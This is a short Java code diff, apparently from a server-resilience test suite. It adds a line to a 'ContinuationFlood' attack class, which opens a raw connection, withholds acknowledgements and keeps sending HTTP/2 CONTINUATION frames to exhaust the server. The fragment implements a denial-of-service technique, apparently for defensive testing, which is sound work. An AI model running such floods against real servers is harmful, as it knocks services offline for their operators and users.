@@ -42,6 +42,7 @@ enum ContinuationFlood implements Attack {
   @Override
   public void attack(Front front) throws IOException {
     RawConnection connection = front.connect();
+    connection.acknowledgeNothing();
     connection.send(Frames.headers(1, Frames.NONE, Requests.to(Requests.UNARY).next()));
     byte[] more = Frames.continuation(1, Frames.NONE, fragment());
     while (front.goesOn(connection)) {
